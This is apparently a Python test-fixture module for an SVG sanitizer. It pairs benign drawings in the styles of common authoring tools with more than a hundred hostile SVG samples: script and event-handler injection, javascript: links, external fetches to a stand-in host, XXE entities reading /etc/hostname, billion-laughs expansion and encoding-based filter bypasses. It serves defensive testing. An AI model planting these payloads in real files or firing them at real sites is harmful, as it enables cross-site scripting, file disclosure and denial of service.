"""Drawings for tests: as programs write them, and such as do more than draw when a browser opens them."""

import base64
from typing import Final

from picture_samples import drawn as drawn_picture
from picture_samples import png, telling_jpeg

_NS: Final = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
_OUT: Final = "http://ngoai.example"
PICTURE: Final = "data:image/png;base64," + base64.b64encode(png(8, 6)).decode()
TELLING: Final = "data:image/jpeg;base64," + base64.b64encode(telling_jpeg(drawn_picture(8, 6))).decode()


def svg(inside: str, attributes: str = "") -> str:
    """Return a drawing with these elements."""
    return f'<svg {_NS} width="60" height="40" {attributes}>{inside}</svg>'


# What is drawn must stay the same.
DRAWN: Final[dict[str, str]] = {
    "inkscape": f"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) -->
<svg {_NS} xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
   width="60" height="40" viewBox="0 0 60 40" version="1.1" id="svg5" inkscape:version="1.2">
  <metadata><rdf:RDF><rdf:Description rdf:about="{_OUT}"/></rdf:RDF></metadata>
  <inkscape:namedview id="nv" pagecolor="#ffffff"><inkscape:grid type="xygrid"/></inkscape:namedview>
  <defs id="defs2">
    <linearGradient id="a"><stop style="stop-color:#f00;stop-opacity:1" offset="0"/><stop offset="1" stop-color="blue"/>
    </linearGradient>
    <linearGradient xlink:href="#a" id="b" x1="0" y1="0" x2="60" y2="0" gradientUnits="userSpaceOnUse"/>
  </defs>
  <g inkscape:label="Lớp 1" inkscape:groupmode="layer" id="layer1" transform="translate(2, 3) rotate(5)">
    <path style="fill:url(#b);stroke:#000;stroke-width:.5;-inkscape-stroke:none" d="M1,1 40.5,2e1 h-3 z" id="p"/>
  </g>
</svg>""",
    "illustrator": f"""<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg version="1.1" id="Layer_1" {_NS} x="0px" y="0px" width="60px" height="40px" viewBox="0 0 60 40"
   style="enable-background:new 0 0 60 40;" xml:space="preserve">
<style type="text/css">
	.st0{{fill:#ED1C24;}} /* the flag */
	.st1{{fill:none;stroke:#000000;stroke-miterlimit:10;}}
	.st2{{font-family:'Times New Roman', serif; font-size:10px;}}
</style>
<rect x="5" y="5" class="st0" width="30" height="20"/><circle class="st1" cx="30" cy="20" r="10"/>
<text transform="matrix(1 0 0 1 6 34)" class="st2">Đồng  Tháp</text></svg>""",
    "matplotlib": svg(
        """<defs><style type="text/css"><![CDATA[*{stroke-linejoin: round; stroke-linecap: butt}]]></style>
        <path id="m1" d="M 0 3 L 3 0" style="stroke: #1f77b4"/></defs>
        <g id="axes_1"><use xlink:href="#m1" x="10" y="10" style="fill: #1f77b4; stroke: #1f77b4"/>
        <use href="#m1" x="20" y="10"/></g>
        <clipPath id="c"><rect x="0" y="0" width="50" height="20"/></clipPath>
        <path d="M 0 0 L 60 40" clip-path="url(#c)" style="fill: none; stroke-dasharray: 3,2; stroke: #d62728"/>"""
    ),
    "figma": svg(
        f"""<g filter="url(#f)"><rect x="4" y="4" width="40" height="20" rx="4" fill="#fff"/></g>
        <rect width="20" height="15" fill="url(#p)"/>
        <defs><filter id="f" x="0" y="0" width="60" height="40" filterUnits="userSpaceOnUse"
          color-interpolation-filters="sRGB"><feFlood flood-opacity="0" result="BackgroundImageFix"/>
          <feColorMatrix in="SourceAlpha" values="0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 127 0" result="hardAlpha"/>
          <feOffset dy="2"/><feGaussianBlur stdDeviation="1.5"/><feBlend in2="BackgroundImageFix" result="e"/>
          <feBlend in="SourceGraphic" in2="e" result="shape"/></filter>
        <pattern id="p" patternContentUnits="objectBoundingBox" width="1" height="1">
          <use xlink:href="#i" transform="scale(0.125 0.1666)"/></pattern>
        <image id="i" width="8" height="6" xlink:href="{PICTURE}"/></defs>""",
        'fill="none" viewBox="0 0 60 40"',
    ),
    "markers, masks and text on a path": svg(
        """<defs><marker id="m" markerWidth="6" markerHeight="6" refX="3" refY="3" orient="auto">
        <circle cx="3" cy="3" r="2"/></marker><mask id="k"><rect width="60" height="40" fill="#888"/></mask>
        <path id="t" d="M5 30 Q30 5 55 30"/><radialGradient id="r"><stop offset="50%" stop-color="rgb(1,200,3)"/>
        </radialGradient><symbol id="s" viewBox="0 0 10 10"><ellipse cx="5" cy="5" rx="4" ry="2"/></symbol></defs>
        <polyline points="5,5 20,10 35,5" fill="none" stroke="#000" marker-end="url(#m)" mask="url('#k')"/>
        <use href="#s" x="30" y="20" width="20" height="20" fill="url(#r) red"/>
        <text font-size="8"><textPath href="#t" startOffset="10%">&lt;Xã &amp; huyện&gt;</textPath></text>
        <text x="3" y="38" font-family="&quot;DejaVu Sans&quot;">a<tspan dy="-3" font-weight="bold">b</tspan></text>"""
    ),
}

# Each runs a script (`alert`) or asks another host when it is opened as it is, or does so in another browser.
ATTACKS: Final[dict[str, str | bytes]] = {
    "script": svg("<script>alert(1)</script>"),
    "script, outer": svg(f'<script href="{_OUT}/a.js"/>'),
    "script, CDATA": svg("<script><![CDATA[alert(1)]]></script>"),
    "script, prefixed": '<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>alert(1)</x:script></x:svg>',
    "script, prefix outside ASCII": svg('<ñ:script xmlns:ñ="http://www.w3.org/2000/svg">alert(1)</ñ:script>'),
    "script, XHTML": svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
    "script, XHTML in metadata": svg(
        '<metadata><h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script></metadata>'
    ),
    "script, in another namespace": svg('<a:b xmlns:a="a"><script>alert(1)</script></a:b>'),
    "script, in a title": svg("<title><script>alert(1)</script></title>"),
    "script, in a style": svg("<style>a{}<script>alert(1)</script></style>"),
    "script, entities": svg("<script>&#97;lert(1)</script>"),
    "style that ends": svg("<style>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>"),
    "title that ends": svg("<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>"),
    "CDATA that ends": svg("<text><![CDATA[</text><script>alert(1)</script>]]></text>"),
    "onload": svg("", 'onload="alert(1)"'),
    "ONLOAD": svg("", 'ONLOAD="alert(1)"'),
    "onload, of XHTML": svg("", 'xmlns:h="http://www.w3.org/1999/xhtml" h:onload="alert(1)"'),
    "onbegin": svg('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'),
    "onclick": svg('<rect width="60" height="40" onclick="alert(1)"/>'),
    "onerror": svg('<image href="x" onerror="alert(1)"/>'),
    "onfocus": svg('<g tabindex="1" id="x" onfocusin="alert(1)"/>'),
    "attribute that ends": svg('<g id="&quot; onload=&quot;alert(1)"/>'),
    "attribute that ends the element": svg('<g id="&quot;/&gt;&lt;script&gt;alert(1)&lt;/script&gt;"/>'),
    "href that ends": svg('<use href="#&quot;onload=&quot;alert(1)"/>'),
    "link": svg('<a href="javascript:alert(1)"><rect width="60" height="40"/></a>'),
    "link, of XLink": svg('<a xlink:href="java&#115;cript:alert(1)"><rect width="60" height="40"/></a>'),
    "link, outer": svg(f'<a href="{_OUT}/"><rect width="60" height="40"/></a>'),
    "use, outer": svg(f'<use href="{_OUT}/a.svg#a"/>'),
    "use, outer with spaces": svg(f'<use href="  {_OUT}/a.svg#a"/>'),
    "use, beside": svg('<use href="khac.svg#a"/>'),
    "use, itself anew": svg('<use href="?#a"/>'),
    "use, data": svg('<use href="data:image/svg+xml,&lt;svg/&gt;#a"/>'),
    "use, both": svg(f'<use href="#a" xlink:href="{_OUT}/a.svg#a"/>'),
    "use, base": svg('<use href="#a"/>', f'xml:base="{_OUT}/a.svg"'),
    "image, outer": svg(f'<image href="{_OUT}/a.png" width="9" height="9"/>'),
    "image, of XLink": svg(f'<image xlink:href="{_OUT}/a.png" width="9" height="9"/>'),
    "image, own prefix": svg(f'<image l:href="{_OUT}/a.png" xmlns:l="http://www.w3.org/1999/xlink" width="9"/>'),
    "image, scheme of the page": svg('<image href="//ngoai.example/a.png" width="9" height="9"/>'),
    "image, an SVG": svg('<image href="data:image/svg+xml,&lt;svg onload=&quot;alert(1)&quot;/&gt;" width="9"/>'),
    "image, an SVG in base64": svg('<image href="data:image/svg+xml;base64,PHN2Zy8+" width="9" height="9"/>'),
    "image, an SVG as PNG": svg('<image href="data:image/png;base64,PHN2Zy8+" width="9" height="9"/>'),
    "feImage": svg(
        f'<filter id="f"><feImage href="{_OUT}/a.png"/></filter><rect width="9" height="9" filter="url(#f)"/>'
    ),
    "gradient, outer": svg(
        f'<linearGradient id="a" href="{_OUT}/a.svg#b"/><rect width="9" height="9" fill="url(#a)"/>'
    ),
    "pattern, outer": svg(f'<pattern id="a" xlink:href="{_OUT}/a.svg#b"/>'),
    "text path, outer": svg(f'<text><textPath href="{_OUT}/a.svg#b">a</textPath></text>'),
    "fill, outer": svg(f'<rect width="9" height="9" fill="url({_OUT}/a.svg#b)"/>'),
    "fill, outer in quotes": svg(f"<rect width='9' height='9' fill='url(&quot;{_OUT}/a.svg#b&quot;)'/>"),
    "fill, outer in capitals": svg(f'<rect width="9" height="9" fill="URL({_OUT}/a.svg#b)"/>'),
    "fill, escaped": svg(rf'<rect width="9" height="9" fill="\75rl({_OUT}/a.svg#b)"/>'),
    "fill, second": svg(f'<rect width="9" height="9" fill="url(#a) url({_OUT}/a.svg#b)"/>'),
    "mask, outer": svg(f'<rect width="9" height="9" mask="url({_OUT}/a.svg#b)"/>'),
    "mask, image-set": svg(f"<rect width='9' height='9' style='mask:image-set(&quot;{_OUT}/a.png&quot; 1x)'/>"),
    "mask, src": svg(f"<rect width='9' height='9' style='mask:src(&quot;{_OUT}/a.png&quot;)'/>"),
    "clip path, outer": svg(f'<rect width="9" height="9" clip-path="url({_OUT}/a.svg#b)"/>'),
    "filter, outer": svg(f'<rect width="9" height="9" style="filter:url({_OUT}/a.svg#b)"/>'),
    "marker, outer": svg(f'<path d="M0 0L9 9" style="marker:url({_OUT}/a.svg#b)"/>'),
    "cursor, outer": svg(f'<rect width="9" height="9" style="cursor:url({_OUT}/a.cur),auto"/>'),
    "background, outer": svg("", f'style="background:url({_OUT}/a.png)"'),
    "content, outer": svg(f"<style>svg::before{{content:url({_OUT}/a.png)}}</style>"),
    "variable, outer": svg(f'<g style="--a:url({_OUT}/a.svg#b);fill:var(--a)"><rect width="9" height="9"/></g>'),
    "style, hidden by a comment": svg(f'<rect width="9" height="9" style="fill:u/**/rl({_OUT}/a.svg#b)"/>'),
    "style, hidden by a string": svg(f"<g style='fill:red;a:&quot;;fill:url({_OUT}/a.svg#b);b:&quot;'/>"),
    "style, hidden by a bracket": svg(f"<style>a{{fill:red}}}}b{{fill:url({_OUT}/a.svg#b)}}</style>"),
    "import": svg(f"<style>@import '{_OUT}/a.css';</style>"),
    "import, url": svg(f"<style>@import url({_OUT}/a.css);</style>"),
    "import, escaped": svg(rf"<style>@\69mport '{_OUT}/a.css';</style>"),
    "import, after a charset": svg(f"<style>@charset \"UTF-8\"; @import '{_OUT}/a.css';</style>"),
    "import, in CDATA": svg(f"<style><![CDATA[@import '{_OUT}/a.css';]]></style>"),
    "import, beside a comment": svg(f"<style>/**/@import/**/'{_OUT}/a.css';</style>"),
    "import, in pieces": svg(f"<style>@imp<!-- -->ort '{_OUT}/a.css';</style>"),
    "font face": svg(
        f"<style>@font-face{{font-family:a;src:url({_OUT}/a.woff)}}</style><text y='9' font-family='a'>a</text>"
    ),
    "media": svg(f"<style>@media all{{rect{{fill:url({_OUT}/a.svg#b)}}}}</style><rect width='9' height='9'/>"),
    "style sheet": f'<?xml-stylesheet href="{_OUT}/a.css"?>' + svg(""),
    "style sheet, XSLT": f'<?xml-stylesheet type="text/xsl" href="{_OUT}/a.xsl"?>' + svg(""),
    "style sheet, of this file": '<?xml-stylesheet type="text/xsl" href="#x"?>'
    + svg('<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" id="x" version="1.0"/>'),
    "link element": svg(f'<h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="stylesheet" href="{_OUT}/a.css"/>'),
    "refresh": svg(f'<h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;{_OUT}"/>'),
    "XHTML image": svg(f'<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="{_OUT}/a.png" onerror="alert(1)"/>'),
    "XHTML frame": svg(
        '<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/>'
    ),
    "foreign object": svg(
        '<foreignObject width="9" height="9">'
        '<body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>'
    ),
    "handler": svg('<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>'),
    "set": svg('<a id="a"><set attributeName="href" to="javascript:alert(1)"/><rect width="60" height="40"/></a>'),
    "animate": svg(
        '<a><animate attributeName="xlink:href" values="javascript:alert(1)" dur="1s" fill="freeze"/>'
        '<text y="9">a</text></a>'
    ),
    "animate, of an image": svg(f'<image width="9" height="9"><set attributeName="href" to="{_OUT}/a.png"/></image>'),
    "animate, handler": svg('<rect width="9" height="9"><set attributeName="onmouseover" to="alert(1)"/></rect>'),
    "animate motion": svg(f'<rect><animateMotion dur="1s"><mpath href="{_OUT}/a.svg#b"/></animateMotion></rect>'),
    "audio": svg(f'<h:audio xmlns:h="http://www.w3.org/1999/xhtml" src="{_OUT}/a.mp3" autoplay=""/>'),
    "cursor element": svg(f'<cursor href="{_OUT}/a.cur"/>'),
    "color profile": svg(f'<color-profile name="a" href="{_OUT}/a.icc"/>'),
    "font face uri": svg(f'<font-face><font-face-src><font-face-uri href="{_OUT}/a.svg"/></font-face-src></font-face>'),
    "DTD, attributes": '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>' + svg(""),
    "DTD, entity": '<!DOCTYPE svg [<!ENTITY a "&#60;script>alert(1)&#60;/script>">]>' + svg("&a;"),
    "DTD, outer entity": f'<!DOCTYPE svg [<!ENTITY a SYSTEM "{_OUT}/a">]>' + svg("<text>&a;</text>"),
    "DTD, file": '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/hostname">]>' + svg("<text>&a;</text>"),
    "DTD, outer": f'<!DOCTYPE svg SYSTEM "{_OUT}/a.dtd">' + svg("<text>&a;</text>"),
    "DTD, laughs": '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f"<!ENTITY {b} '" + f"&{a};" * 10 + "'>" for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
    + svg("<text>&i;</text>"),
    "DTD, second": "<!DOCTYPE svg><!DOCTYPE svg [<!ATTLIST svg onload CDATA 'alert(1)'>]>" + svg(""),
    "UTF-16": svg("<script>alert(1)</script>").encode("utf-16"),
    "UTF-16, no mark": svg("<script>alert(1)</script>").encode("utf-16-be"),
    "UTF-32": svg("<script>alert(1)</script>").encode("utf-32"),
    "UTF-7": '<?xml version="1.0" encoding="UTF-7"?>' + svg("+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    "ISO-2022-JP": b'<?xml version="1.0" encoding="ISO-2022-JP"?>'
    + svg("<s\x1b(Bcript>alert(1)</s\x1b(Bcript>").encode(),
    "ISO-2022-JP, in a comment": b'<?xml version="1.0" encoding="ISO-2022-JP"?>'
    + svg("<!--\x1b$B--><script>alert(1)</script><!--\x1b(B-->").encode(),
    "GBK": b'<?xml version="1.0" encoding="GBK"?>' + svg('<g id="').encode() + b'\x81" onload="alert(1)"/></svg>',
    "UTF-16 declared": '<?xml version="1.0" encoding="UTF-16"?>' + svg("<script>alert(1)</script>"),
    "EBCDIC": ('<?xml version="1.0" encoding="cp037"?>' + svg("<script>alert(1)</script>")).encode("cp037"),
    "XML 1.1": '<?xml version="1.1"?>' + svg("<script>alert(1)</script>"),
    "overlong": svg("").encode() + b"\xc0\xbcscript\xc0\xbealert(1)",
    "NUL": svg("<scr\0ipt>alert(1)</scr\0ipt>"),
    "mark inside": svg("<scr\ufeffipt>alert(1)</scr\ufeffipt>"),
    "HTML": "<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
    "XHTML": '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    "no namespace": "<svg><script>alert(1)</script></svg>",
    "two roots": svg("") + '<script xmlns="http://www.w3.org/2000/svg">alert(1)</script>',
    "after the end": svg("") + f'<?xml-stylesheet href="{_OUT}/a.css"?>',
    "not closed": svg("<script>alert(1)</script>").removesuffix("</svg>"),
    "compressed": base64.b64decode("H4sIAAAAAAAAA7MpLkssSq1QSMlPLrFVqjGwBAAVx7wZEQAAAA=="),
    "inclusion": svg(f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="{_OUT}/a" parse="text"/>'),
    "deep": svg("<g>" * 5000 + "</g>" * 5000),
    "uses of uses": svg("".join(f"<g id='a{n}'>" + f"<use href='#a{n + 1}'/>" * 10 + "</g>" for n in range(9))),
    "uses of itself": svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
}
